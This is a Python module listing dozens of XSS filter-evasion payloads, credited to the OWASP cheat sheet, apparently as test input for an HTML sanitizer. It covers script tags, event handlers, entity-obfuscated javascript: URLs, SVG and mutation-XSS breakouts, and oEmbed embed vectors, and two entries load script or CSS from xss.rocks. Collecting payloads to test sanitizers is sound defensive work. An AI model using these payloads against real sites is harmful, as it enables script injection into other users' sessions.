"""Known XSS payloads, after the OWASP XSS filter evasion cheat sheet, keyed by what they try."""

XSS_PAYLOADS = {
    # Script elements, plain and disguised.
    "script element": "<script>alert(1)</script>",
    "external script, upper case": "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "script split by a nested script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script after a broken img": '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "extra open angle bracket": '<<SCRIPT>alert("XSS");//<</SCRIPT>',
    "script in CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "script in a template": "<template><script>alert(1)</script></template>",
    "script in xmp": "<xmp><script>alert(1)</script></xmp>",
    # Event handlers.
    "img onerror": "<img src=x onerror=alert(1)>",
    "img onerror evaluating its own src": "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "onclick on an allowed link": '<a href="https://ok.example/" onclick="alert(1)">x</a>',
    "onmouseover on a paragraph": '<p onmouseover="alert(1)">x</p>',
    "onclick with style on a span": '<span lang="en" style="x" onclick="alert(1)">x</span>',
    "body onload": "<body onload=alert(1)>",
    "details ontoggle": "<details open ontoggle=alert(1)>x</details>",
    "video source onerror": '<video><source onerror="alert(1)"></video>',
    "isindex onerror": "<isindex type=image src=1 onerror=alert(1)>",
    "input autofocus onfocus": "<input autofocus onfocus=alert(1)>",
    "marquee onstart": "<marquee onstart=alert(1)>x</marquee>",
    # javascript: and friends in URLs, obfuscated the ways browsers still accept.
    "javascript: in img src": "<IMG SRC=\"javascript:alert('XSS');\">",
    "mixed-case javascript: in img src": "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "decimal entities in img src": (
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
        "&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>"
    ),
    "zero-padded entities without semicolons": (
        "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114"
        "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114"
        "&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>"
    ),
    "hex entities without semicolons": (
        "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A"
        "&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>"
    ),
    "literal tab in img src": "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "encoded tab in href": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "encoded newline in href": '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    "encoded carriage return in href": '<a href="jav&#x0D;ascript:alert(1)">x</a>',
    "leading spaces and control character in href": '<a href=" &#14;  javascript:alert(1)">x</a>',
    "leading raw control character in href": '<a href="\x01javascript:alert(1)">x</a>',
    "named entity for the colon": '<a href="javascript&colon;alert(1)">x</a>',
    "one hex entity for the first letter": '<a href="&#x6A;avascript:alert(1)">x</a>',
    "mixed-case javascript: in href": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "vbscript: in href": '<a href="vbscript:msgbox(1)">x</a>',
    "data: HTML in href": (
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'
    ),
    "data: SVG in img src": (
        '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+">'
    ),
    "javascript: in blockquote cite": '<blockquote cite="javascript:alert(1)">x</blockquote>',
    "javascript: in table background": (
        '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'
    ),
    "javascript: in srcset": '<img src="https://ok.example/a.png" srcset="javascript:alert(1)">',
    "unterminated link": '<a href="javascript:alert(1)" ',
    "attribute breakout in href": (
        '<a href="https://ok.example/&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</a>'
    ),
    # Foreign content and frames.
    "svg onload": "<svg onload=alert(1)>",
    "script inside svg": "<svg><script>alert(1)</script></svg>",
    "svg link with xlink:href": (
        '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>'
    ),
    "math namespace confusion": ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    "iframe with javascript: src": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object data": '<object data="javascript:alert(1)"></object>',
    "embed of data: SVG": (
        '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+">'
    ),
    # Styles, document-level tags and forms.
    "style expression": '<p style="width: expression(alert(1))">x</p>',
    "style url javascript:": ('<div style="background-image: url(javascript:alert(1))">x</div>'),
    "style element import": "<style>@import 'http://xss.rocks/xss.css';</style>",
    "link stylesheet": '<link rel="stylesheet" href="javascript:alert(1)">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base href": '<base href="javascript:alert(1)//">',
    "form action": '<form action="javascript:alert(1)"><button>go</button></form>',
    "button formaction": '<button formaction="javascript:alert(1)">go</button>',
    # Mutation XSS: markup that reparses differently once serialised.
    "noscript title breakout": (
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'
    ),
    "textarea breakout": "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "title breakout": "<title><img src=x onerror=alert(1)></title>",
    "comment breakout": '<!--<img src="--><img src=x onerror=alert(1)//">',
    # Embeds.
    "oembed with javascript: url": (
        '<figure class="media"><oembed url="javascript:alert(1)"></oembed></figure>'
    ),
    "oembed with entity-encoded javascript: url": (
        '<oembed url="jav&#x61;script&#x3A;alert(1)"></oembed>'
    ),
    "oembed with tab in javascript: url": (
        '<figure class="media"><oembed url="java&#x09;script:alert(1)"></oembed></figure>'
    ),
    "oembed with data: url": '<oembed url="data:text/html,&lt;script&gt;alert(1)"></oembed>',
    "oembed url breaking out of its attribute": (
        '<oembed url="https://x.com/a&quot;onmouseover=&quot;alert(1)"></oembed>'
    ),
    "data-embed-url with javascript:": (
        '<figure class="media" data-embed-url="javascript:alert(1)"></figure>'
    ),
    "data-embed-url with padded javascript:": (
        '<figure class="media" data-embed-url=" &#10;JavaScript:alert(1)"></figure>'
    ),
    "data-embed-url with data:": (
        '<figure class="media" data-embed-url="data:text/html,<script>alert(1)</script>"></figure>'
    ),
}
